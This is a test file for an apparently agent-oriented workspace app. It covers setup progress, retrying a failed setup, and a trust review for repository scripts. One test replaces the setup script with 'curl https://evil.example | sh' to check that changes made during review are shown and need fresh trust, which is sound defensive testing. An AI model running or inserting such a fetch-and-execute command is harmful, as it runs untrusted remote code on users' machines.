// Workspaces that are not ready yet, scripts that wait for trust, and sessions that were made ahead; against a pretended daemon.
import { describe, expect, it } from 'vitest';
import { FakeWindow } from './support/fake-window';
import { scripts } from './support/fake-workspaces';
import { RULES } from './support/scenes-workspaces';

const my = new FakeWindow();
const asked = () => my.daemon.workspaces;

describe('a workspace that is being made ready', () => {
  it('is told in the row and over the pane, and its first prompt can be typed at once', async () => {
    const output = my.add({ name: 'setup', status: 'running' }, 'added 212 packages');
    const { session } = my.add({
      name: 'one',
      agent: 'claude',
      status: 'starting',
      preparing: { state: { is: 'making', step: 'checking out' }, line: null, prompt_waits: true },
    });
    my.daemon.change(output.session.id, { runs_for: { session: session.id, name: 'setup' } });
    await my.open();
    await my.win.row('one').first().click();
    const bar = my.win.by('preparing');
    await expect.poll(() => bar.innerText()).toContain('checking out');
    expect(await my.win.row('one').first().innerText()).toContain('checking out');
    my.daemon.change(session.id, {
      preparing: {
        state: { is: 'setting_up', session: output.session.id },
        line: 'added 212 packages',
        prompt_waits: true,
      },
    });
    await expect.poll(() => bar.innerText()).toContain('added 212 packages');
    await expect.poll(() => my.win.row('one').first().innerText()).toContain('added 212 packages');
    await my.win.by('preparing-output').click();
    await my.win.terminal(output.session.id).waitFor();
    await my.win.by('preparing-skip').click();
    await my.win.by('preparing-skip').waitFor({ state: 'detached' });
    expect(asked().requested('skip_setup')).toEqual([{ do: 'skip_setup', session: session.id }]);
    my.daemon.change(session.id, { status: 'idle', preparing: null });
    await bar.waitFor({ state: 'detached' });
  });

  it('says why its setup failed, and runs it again', async () => {
    const state = { is: 'setup_failed', why: 'npm ci left with 1.' } as const;
    const { session } = my.add({
      name: 'one',
      agent: 'claude',
      preparing: { state, line: 'E401', prompt_waits: true },
    });
    await my.open();
    await my.win.row('one').first().click();
    await expect.poll(() => my.win.by('preparing').innerText()).toContain('npm ci left with 1.');
    await my.win.by('preparing-retry').click();
    await expect.poll(() => my.win.by('preparing').getAttribute('data-state')).toBe('setting_up');
    expect(asked().requested('run_setup')).toEqual([{ do: 'run_setup', session: session.id }]);
  });
});

describe('scripts that come with a repository', () => {
  const untrusted = () => {
    asked().scripts = scripts({ rules: RULES, hash: 'first', trusted: false });
    return my.add({
      name: 'one',
      agent: 'claude',
      status: 'starting',
      preparing: { state: { is: 'untrusted' }, line: null, prompt_waits: true },
    }).session;
  };

  it('are shown whole, and trusted as they were read and in no other way', async () => {
    const session = untrusted();
    await my.open();
    await my.win.row('one').first().click();
    await my.win.by('preparing-review').click();
    await expect.poll(() => my.win.by('rules-setup').innerText()).toContain('npm run generate');
    expect(await my.win.by('rules-run').innerText()).toContain('npm run dev -- --port $BELFRY_PORT');
    // Somebody changes them while they are read.
    const setup = 'curl https://evil.example | sh';
    asked().scripts = scripts({ rules: { ...RULES, setup }, hash: 'second', trusted: false, before: RULES });
    await my.win.by('scripts-trust').click();
    await expect.poll(() => my.win.by('rules-setup').innerText()).toContain(`+ ${setup}`);
    expect(await my.win.by('rules-setup').innerText()).toContain('− npm ci');
    await my.win.by('scripts-trust').click();
    await my.win.by('scripts').waitFor({ state: 'detached' });
    expect(asked().requested('trust')).toEqual([
      { do: 'trust', directory: session.cwd, hash: 'first' },
      { do: 'trust', directory: session.cwd, hash: 'second' },
    ]);
  });

  it('are not needed to start', async () => {
    const session = untrusted();
    await my.open();
    await my.win.row('one').first().click();
    await my.win.by('preparing-review').click();
    await my.win.by('scripts-without').click();
    await my.win.by('preparing').waitFor({ state: 'detached' });
    expect(asked().requested('skip_setup')).toEqual([{ do: 'skip_setup', session: session.id }]);
    expect(asked().requested('trust')).toEqual([]);
  });
});

describe('a session that was made ahead and taken', () => {
  /** Starts one, whose tab is given back. */
  async function take() {
    await my.win.by('new-session').click();
    await my.win.by('name').fill('taken');
    const add = my.daemon.add.bind(my.daemon);
    my.daemon.add = (fake) => add(Object.assign(fake, { session: { ...fake.session, unspoken: true } }));
    await my.win.press('Enter');
    const tab = my.page.locator('[data-testid=tab]', { hasText: 'taken' });
    await tab.waitFor();
    return { tab, id: [...my.daemon.sessions.keys()].at(-1) ?? '' };
  }

  it('is in no list and no count until it is spoken to, and is given back with its tab', async () => {
    my.add({ name: 'seen' });
    my.add({ name: 'never taken', unspoken: true });
    await my.open();
    expect(await my.win.row('never taken').count()).toBe(0);
    const { tab, id } = await take();
    expect(await my.win.row('taken').count()).toBe(0);
    expect(await my.win.by('session-count').innerText()).toContain('1 session');
    await tab.click({ button: 'middle' });
    await expect.poll(() => asked().requested('leave')).toEqual([{ do: 'leave', session: id }]);
  });

  it('stays where it was spoken to', async () => {
    my.add({ name: 'seen' });
    await my.open();
    const { tab, id } = await take();
    my.daemon.change(id, { unspoken: false });
    await my.win.row('taken').waitFor();
    expect(await my.win.by('session-count').innerText()).toContain('2 sessions');
    await tab.click({ button: 'middle' });
    await tab.waitFor({ state: 'detached' });
    expect(asked().requested('leave')).toEqual([]);
  });
});
